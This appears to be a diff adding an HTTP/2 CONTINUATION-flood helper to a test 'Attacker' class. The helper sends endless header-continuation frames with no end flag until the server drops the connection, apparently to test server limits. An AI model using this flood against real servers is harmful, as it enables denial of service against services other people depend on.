@@ -164,3 +164,18 @@ class Attacker:
 
     def close(self):
         self._socket.close()
+
+
+def send_headers_without_end(connection, most):
+    """Begins a call over a connected socket, and goes on with its headers until the other side ends
+    the connection, or so many bytes are sent. How many were."""
+    block = b"\x00\x03x-a" + b"\x7f\xe1\x7c" + b"v" * 16096  # a literal of 16096 bytes
+    frames = frame(9, 0, 1, block) * 16
+    sent = 0
+    with contextlib.suppress(OSError):
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, b"\x83\x86"))
+        while sent < most:
+            connection.sendall(frames)
+            sent += len(frames)
+    connection.close()
+    return sent
